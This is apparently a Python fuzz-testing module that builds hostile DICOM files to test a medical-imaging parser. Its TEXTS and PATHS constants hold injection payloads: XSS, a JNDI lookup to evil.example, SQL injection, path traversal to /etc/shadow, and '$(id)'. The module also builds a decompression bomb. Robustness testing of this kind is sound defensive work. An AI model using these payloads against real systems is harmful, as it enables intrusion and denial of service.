"""Hostile DICOM files, the same for the same seed: what attackers, broken tools and bad disks make of a mask slice."""

from __future__ import annotations

import functools
import io
import random
import struct
import zlib
from collections.abc import Callable, Sequence

from pydicom import Dataset, dcmread, dcmwrite
from pydicom.datadict import DicomDictionary
from pydicom.encaps import encapsulate
from pydicom.uid import (
    DeflatedExplicitVRLittleEndian,
    ExplicitVRLittleEndian,
    JPEG2000Lossless,
    JPEGLSLossless,
    RLELossless,
)

from tests.fuzz.mutate import changed

Dice = random.Random
Spoil = Callable[[Dataset, Dice], Dataset | bytes]

TEXTS = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "one\r\nSet-Cookie: a=b\r\n\r\n<b>two</b>",
    "\u202egnp.exe\u2066\u200f",
    "nul\0inside",
    "[bold red]rich[/bold red][link=http://evil.example]x[/link]",
    "{{ 7*7 }}${jndi:ldap://evil.example/a}%s%n",
    "' OR 1=1; DROP TABLE series; --",
    "x" * 60_000,
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\x",
    "/etc/shadow",
    "1.2/../3",
    "%2e%2e%2f",
    "a;id",
    "$(id)",
    "1..2",
    "",
    "9" * 300,
)
NUMBERS = ("nan", "inf", "-inf", "1e400", "-0", "0", "1e-320", "", " ", "x", "1,5", "1\\2\\3\\4\\5\\6\\7", "9" * 40)
_TEXT_VRS = frozenset({"LO", "SH", "PN", "LT", "ST", "UT", "CS", "AE", "DA", "TM", "AS", "DS", "IS"})
_ITEM, _ITEM_END, _SEQUENCE_END = b"\xfe\xff\x00\xe0", b"\xfe\xff\x0d\xe0\0\0\0\0", b"\xfe\xff\xdd\xe0\0\0\0\0"
_UNDEFINED = b"\xff\xff\xff\xff"


def written(data: Dataset) -> bytes:
    """Bytes of a file, however odd its values."""
    buffer = io.BytesIO()
    dcmwrite(buffer, data, enforce_file_format=True)
    return buffer.getvalue()


def _raw(tag: int, vr: bytes, value: bytes, length: int | None = None) -> bytes:
    """An element in explicit little endian, with any length."""
    head = struct.pack("<HH", tag >> 16, tag & 0xFFFF) + vr
    size = len(value) if length is None else length
    if vr in {b"SQ", b"OB", b"OW", b"UN", b"UT"}:
        return head + b"\0\0" + struct.pack("<L", size) + value
    return head + struct.pack("<H", size & 0xFFFF) + value


def _with(data: Dataset, *elements: bytes) -> bytes:
    """A file with elements of our own before the pixel data."""
    content = written(data)
    at = content.rindex(b"\xe0\x7f\x10\x00")
    return content[:at] + b"".join(elements) + content[at:]


def matrix(data: Dataset, dice: Dice) -> Dataset:
    """Rows, columns and frames that nobody can hold."""
    for keyword in dice.sample(["Rows", "Columns", "NumberOfFrames"], dice.randint(1, 3)):
        largest = 2**31 - 1 if keyword == "NumberOfFrames" else 65535
        setattr(data, keyword, dice.choice([0, 1, largest, largest // 2, dice.randint(1, largest)]))
    return data


def pixel_words(data: Dataset, dice: Dice) -> Dataset:
    """Nonsense about what pixels are."""
    for keyword, values in dice.sample(
        [
            ("BitsAllocated", (0, 1, 7, 12, 24, 64, 65535)), ("BitsStored", (0, 1, 17, 65535)), ("HighBit", (0, 40)),
            ("PixelRepresentation", (2, 65535)), ("SamplesPerPixel", (0, 2, 3, 65535)),
            ("PhotometricInterpretation", ("PALETTE COLOR", "YBR_FULL_422", "RGB", "", "HSV")),
            ("NumberOfFrames", ("-1", "0", "x", "1.5")), ("RescaleSlope", ("0", "nan", "1e308", "-1")),
            ("PixelPaddingValue", (0, 1, 65535)), ("PlanarConfiguration", (1, 9)),
        ],
        dice.randint(1, 3),
    ):  # fmt: skip
        value = dice.choice(values)
        data.add_new(keyword, "US" if isinstance(value, int) else "LO", value)
    return data


def palette(data: Dataset, dice: Dice) -> Dataset:
    """A palette that is not there, too short, or of no entries."""
    data.PhotometricInterpretation = "PALETTE COLOR"
    for colour in ("Red", "Green", "Blue"):
        if dice.random() < 0.8:
            entries = dice.choice([0, 2, 255, 65535])
            words = [entries, dice.choice([0, 60000]), dice.choice([8, 16, 3])]
            data.add_new(f"{colour}PaletteColorLookupTableDescriptor", "US", words)
            data.add_new(f"{colour}PaletteColorLookupTableData", "OW", bytes(dice.choice([0, 2, 510])))
    return data


def geometry(data: Dataset, dice: Dice) -> Dataset:
    """Positions that are none."""
    for keyword, count in dice.sample(
        [("PixelSpacing", 2), ("ImagePositionPatient", 3), ("ImageOrientationPatient", 6), ("SliceThickness", 1)],
        dice.randint(1, 3),
    ):
        data.add_new(
            keyword, "LO", "\\".join(dice.choice(NUMBERS[:9]) for _ in range(dice.choice([count, count, 1, 9])))
        )
        data[keyword].VR = "DS"
    return data


def texts(data: Dataset, dice: Dice) -> Dataset:
    """Text that would like to be something else."""
    data.SpecificCharacterSet = dice.choice(["ISO_IR 192", "ISO_IR 100", "ISO 2022 IR 87", "nonsense"])
    for keyword in (
        "PatientName",
        "SeriesDescription",
        "StudyDescription",
        "ProtocolName",
        "StationName",
        "Manufacturer",
    ):
        text = dice.choice(TEXTS)
        data.add_new(keyword, "PN" if keyword == "PatientName" else "LO", text.replace("\\", "/"))
    if dice.random() < 0.5:
        data.SeriesDescription = "tumour mask " + dice.choice(TEXTS)
    return data


def identifiers(data: Dataset, dice: Dice) -> Dataset:
    """UIDs with paths and worse in them; the series' own stays, so that it can be found."""
    for keyword in dice.sample(
        ["SOPInstanceUID", "FrameOfReferenceUID", "SOPClassUID", "PatientID"], dice.randint(1, 3)
    ):
        setattr(data, keyword, dice.choice(PATHS))
    return data


def vrs(data: Dataset, dice: Dice) -> bytes:
    """Elements with the VR of others."""
    content = bytearray(written(data))
    for _ in range(dice.randint(1, 6)):
        tag = dice.choice([t for t in data.keys() if t.group in {0x0008, 0x0010, 0x0018, 0x0020, 0x0028}])  # noqa: SIM118
        at = content.find(struct.pack("<HH", tag.group, tag.element))
        if at > 132:
            content[at + 4 : at + 6] = dice.choice(
                [b"SQ", b"UN", b"OB", b"US", b"FD", b"PN", b"AT", b"UT", b"XX", b"\0\0", b"OV"]
            )
    return bytes(content)


def cut(data: Dataset, dice: Dice) -> bytes:
    """A file that ends early, or pixel data that does."""
    if dice.random() < 0.5:
        data.PixelData = data.PixelData[: dice.randrange(0, len(data.PixelData), 2)]
        return written(data)
    content = written(data)
    return content[: dice.randrange(400, len(content))]


def lengths(data: Dataset, dice: Dice) -> bytes:
    """Elements that claim to be longer than the world, or of undefined length without an end."""
    tag = dice.choice([0x00091010, 0x00280002 - 1, 0x00209999, 0x7FE00001])
    vr, length = dice.choice(
        [
            (b"UN", 0xFFFFFFFE),
            (b"OB", 0x7FFFFFFF),
            (b"SQ", 0xFFFFFFFF),
            (b"UN", 0xFFFFFFFF),
            (b"LO", 65534),
            (b"UT", 0xFFFFFFF0),
        ]
    )
    return _with(data, _raw(tag, vr, bytes(dice.choice([0, 8, 64])), length))


def nested(data: Dataset, dice: Dice) -> bytes:
    """Sequences in sequences in sequences."""
    depth = dice.choice([20, 60, 300, 500])
    head = _raw(0x00081140, b"SQ", b"", 0xFFFFFFFF) + _ITEM + _UNDEFINED
    end = (_ITEM_END + _SEQUENCE_END) * dice.choice([depth, depth, depth - 1, 0])
    return _with(data, head * depth, end)


def items(data: Dataset, dice: Dice) -> bytes:
    """A sequence of a great many empty items."""
    count = dice.choice([2_000, 20_000])
    return _with(data, _raw(0x00081140, b"SQ", (_ITEM + b"\0\0\0\0") * count))


def zero(data: Dataset, dice: Dice) -> Dataset:
    """Everything there, nothing in it."""
    kept = {"StudyInstanceUID", "SeriesInstanceUID", "SOPInstanceUID", "SOPClassUID", "PatientID", "PixelData"}
    for element in list(data):
        if element.keyword not in kept and dice.random() < 0.7:
            element.value = None
    if dice.random() < 0.3:
        data.PixelData = b""
    return data


def private(data: Dataset, dice: Dice) -> bytes:
    """A private element that is larger than the rest; seldom a whole gigabyte."""
    size = 1 << 30 if dice.random() < 0.01 else dice.choice([1 << 16, 1 << 20, 8 << 20])
    return _with(data, _raw(0x00290010, b"LO", b"HOSTILE "), _raw(0x00291001, dice.choice([b"UN", b"OB"]), bytes(size)))


@functools.cache
def _zeros(megabytes: int) -> bytes:
    """A raw deflate stream of so many megabytes of zeros, without an end."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block + (packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)) * (megabytes - 1)


def deflated(data: Dataset, dice: Dice) -> bytes:
    """A data set that inflates to far more than it is: mostly megabytes, sometimes thousands."""
    megabytes = dice.choice([700, 2048]) if dice.random() < 0.06 else dice.choice([1, 4, 16, 64])
    return bomb(data, megabytes)


def bomb(data: Dataset, megabytes: int) -> bytes:
    """A deflated file of kilobytes that inflates to so many megabytes of a private element."""
    data.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    content = written(data)
    meta = 132 + 12 + struct.unpack("<L", content[140:144])[0]
    at = content.rindex(b"\xe0\x7f\x10\x00")
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    head = _raw(0x00291001, b"OB", b"", megabytes << 20)
    first = packer.compress(content[meta:at] + head) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(content[at:]) + packer.flush()
    data.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    start = written_meta(data)
    return start + first + _zeros(megabytes) + last


def written_meta(data: Dataset) -> bytes:
    """Preamble and file meta information alone."""
    empty = Dataset()
    empty.file_meta = data.file_meta
    empty.SOPClassUID, empty.SOPInstanceUID = data.SOPClassUID, data.SOPInstanceUID
    buffer = io.BytesIO()
    dcmwrite(buffer, empty, enforce_file_format=True)
    content = buffer.getvalue()
    return content[: 132 + 12 + struct.unpack("<L", content[140:144])[0]]


def codestream(data: Dataset, dice: Dice) -> Dataset:
    """Compressed pixels that say of themselves that they are huge, or are damaged."""
    syntax = dice.choice([JPEG2000Lossless, JPEGLSLossless, RLELossless])
    copy = dcmread(io.BytesIO(written(data)))
    copy.compress(syntax, generate_instance_uid=False)
    raw = bytearray(copy.PixelData)
    side = dice.choice([60_000, 65_535, 20_000])
    if syntax == JPEG2000Lossless:
        at = raw.find(b"\xff\x4f\xff\x51")
        raw[at + 8 : at + 16] = struct.pack(">LL", side * dice.choice([1, 60_000]), side)
    elif syntax == JPEGLSLossless:
        at = raw.find(b"\xff\xf7")
        raw[at + 5 : at + 9] = struct.pack(">HH", side, side)
    else:
        frame = struct.pack("<16L", 2, 64, 64, *[0] * 13) + b"\x81\x01" * dice.choice([1, 500, 400_000])
        raw = bytearray(encapsulate([frame]))
    if dice.random() < 0.2:
        raw[len(raw) // 2] ^= 0xFF
    copy.PixelData = bytes(raw)
    copy["PixelData"].is_undefined_length = True
    return copy


def many(data: Dataset, dice: Dice) -> Dataset:
    """Every attribute that there is, with text in it."""
    chosen = dice.sample(sorted(DicomDictionary), 400)
    data.SpecificCharacterSet = "ISO_IR 192"
    plain = [text for text in TEXTS[:8] if text.isascii()]
    for tag in chosen:
        vr, _, _, _, keyword = DicomDictionary[tag]
        if vr in _TEXT_VRS and keyword and tag >> 16 > 0x0008 and tag >> 16 != 0x0028 and not keyword.endswith("UID"):
            data.add_new(tag, "UC", dice.choice(_texts(vr, plain)).replace("\\", "/"))
            data[tag].VR = "LO" if vr == "PN" else vr
    return data


def _texts(vr: str, plain: Sequence[str]) -> Sequence[str]:
    """What can be written as a value of this VR: SpecificCharacterSet is for some only (PS3.5 section 6.1.2.3)."""
    if vr in {"DS", "IS"}:
        return NUMBERS
    return TEXTS[:8] if vr in {"LO", "LT", "PN", "SH", "ST", "UC", "UT"} else plain


def mutated(data: Dataset, dice: Dice) -> bytes:
    """Bits and pieces moved."""
    content = written(data)
    return content[:132] + changed(content[132:], [content], dice)


KINDS: tuple[Spoil, ...] = (
    matrix, pixel_words, palette, geometry, texts, identifiers, vrs, cut, lengths, nested, items, zero, private,
    deflated, codestream, many, mutated,
)  # fmt: skip


def hostile(data: Dataset, seed: int) -> tuple[str, bytes]:
    """Name of the kind, and the file, made of one slice of a mask."""
    dice = Dice(seed)
    spoil = KINDS[seed % len(KINDS)]
    try:
        made = spoil(dcmread(io.BytesIO(written(data))), dice)
        return spoil.__name__, made if isinstance(made, bytes) else written(made)
    except (ValueError, TypeError, AttributeError, struct.error, OverflowError):  # pydicom would not write it
        return mutated.__name__, mutated(data, Dice(seed))
